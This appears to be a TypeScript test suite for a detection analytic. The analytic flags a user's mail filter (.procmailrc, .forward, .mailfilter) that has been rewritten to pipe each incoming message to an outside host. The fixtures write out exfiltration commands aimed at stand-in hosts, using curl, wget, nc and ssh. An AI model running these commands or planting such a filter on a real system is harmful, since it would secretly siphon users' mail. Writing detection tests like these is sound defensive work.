import assert from 'node:assert/strict';
import { test } from 'node:test';
import { DAY, HOUR, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog, strengthsOf } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const POST = '/usr/bin/curl -s --data-binary @- http://cdn.example.com/b';
const THERE = '203.0.113.81';

interface Story {
  /** What writes the filter, between the letters before and those after. */
  readonly writes?: string;
  readonly by?: 'remote' | 'nobody';
  /** What the filter starts. */
  readonly runs?: string | readonly string[];
  readonly through?: 'procmail' | 'maildrop' | 'shell';
  readonly address?: string;
  /** It is there for the letters before too. */
  readonly always?: boolean;
  /** Only some programs are recorded: neither what delivers nor connections. */
  readonly poor?: boolean;
  /** Letters after it was set up, and how many of them it takes. */
  readonly letters?: number;
  readonly taken?: number;
  readonly to?: string;
}

function filtered(story: Story): HostLog {
  const { runs = POST, address = THERE, letters = 4, to = 'clerk', poor = false } = story;
  const log = new HostLog(poor ? { files: false, network: false } : {});
  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  const letter = (isTaken: boolean): void => {
    log.wait(2 * HOUR);
    const { agent } = log.pipeTo(to, 'procmail');
    if (poor) {
      const unseen = agent.fork();
      unseen.ppid = log.records.nextPid();
      if (isTaken) unseen.exec(runs);
      return;
    }
    const through = { maildrop: '/usr/bin/maildrop -d clerk', procmail: '/usr/bin/procmail -a x', shell: '' }[
      story.through ?? 'procmail'
    ];
    const filter = through === '' ? agent.run(['/bin/sh', '-c', 'x | y']) : agent.run(through);
    if (isTaken) filter.run(runs).orphan().connect(address, 80);
  };
  for (let i = 0; i < 4; i++) letter(story.always === true);
  log.wait(DAY);
  if (story.by !== 'nobody')
    log.remote('clerk', 'printf x > f', '198.51.100.9').write(story.writes ?? '/home/clerk/.procmailrc');
  log.wait(20 * MINUTE);
  for (let i = 0; i < letters; i++) letter(i < (story.taken ?? letters));
  return log;
}

async function told(story: Story) {
  const alerts = await scanLog(filtered(story));
  return alerts.filter(({ analytic }) => analytic === 'AN1310');
}
const severities = async (story: Story): Promise<readonly string[]> =>
  (await told(story)).map(({ severity }) => severity);

test('a filter that was written hands each letter to a program that takes it elsewhere', async () => {
  const [found, ...more] = await told({});
  assert.equal(more.length, 0, 'the redirection is not told a second time');
  assert.equal(found?.severity, 'medium');
  assert.match(
    found?.story ?? '',
    /4 letters of clerk went to cdn\.example\.com by curl .* after \/home\/clerk\/\.procmailrc/,
  );
  assert.ok(found?.factors.some(({ name }) => name === 'mail redirection written'));
  for (const story of [
    { writes: '/home/clerk/.forward', through: 'shell' },
    { writes: '/home/clerk/.mailfilter', through: 'maildrop' },
    { runs: '/usr/bin/nc 203.0.113.81 80' },
    { runs: '/usr/bin/wget -q -O /dev/null --post-file=- http://cdn.example.com/b' },
    { runs: '/usr/bin/ssh drop@cdn.example.com cat' },
    { runs: '/home/clerk/.local/bin/relay' },
    { letters: 1 },
  ] satisfies Story[])
    assert.deepEqual(await severities(story), ['medium'], JSON.stringify(story));
});

test('without a record of its being written, the letters before tell that it is new', async () => {
  const [found] = await told({ by: 'nobody' });
  assert.equal(found?.severity, 'medium');
  assert.ok(found?.factors.some(({ name }) => name === 'not so with letters before'));
});

test('what it did before is a habit, what carries no letter takes none, and what stays inside leaves nothing', async () => {
  assert.deepEqual(await severities({ by: 'nobody', always: true }), [], 'from the first letter on');
  for (const runs of [
    '/usr/bin/curl -s -d mail https://ntfy.example.net/clerk',
    '/usr/bin/curl -s https://hooks.example.net/new',
    '/usr/bin/spamc -d scan.example.net',
    '/usr/bin/rspamc -h scan.example.net',
    '/usr/bin/bogofilter -p',
    '/usr/bin/vacation clerk',
    '/usr/bin/rt-mailgate --queue general --url https://rt.example.net',
  ])
    assert.deepEqual(await severities({ by: 'nobody', runs }), [], runs);
  assert.deepEqual(await severities({ by: 'nobody', address: '127.0.0.1', runs: '/usr/bin/nc localhost 783' }), []);
  const inside = '/usr/bin/curl -s --data-binary @- https://archive.example.org/in';
  const log = filtered({ by: 'nobody', runs: inside });
  log.deliver();
  assert.deepEqual(await scanLog(log), [], 'to a host of the own domain');
});

test('where few programs are recorded, the very moment joins them to the letters', async () => {
  const [found, ...more] = await told({ poor: true, by: 'nobody' });
  assert.equal(more.length, 0);
  assert.equal(found?.severity, 'medium');
  assert.deepEqual(strengthsOf(found as NonNullable<typeof found>, 'delivery'), ['inferred']);
  assert.deepEqual(await severities({ poor: true, by: 'nobody', letters: 2 }), ['low']);
  assert.deepEqual(await severities({ poor: true, by: 'nobody', letters: 1 }), ['informational']);
  assert.deepEqual(await severities({ poor: true, by: 'nobody', letters: 9, taken: 3 }), [], 'most letters without');
  assert.deepEqual(await severities({ poor: true, by: 'nobody', always: true }), []);
});
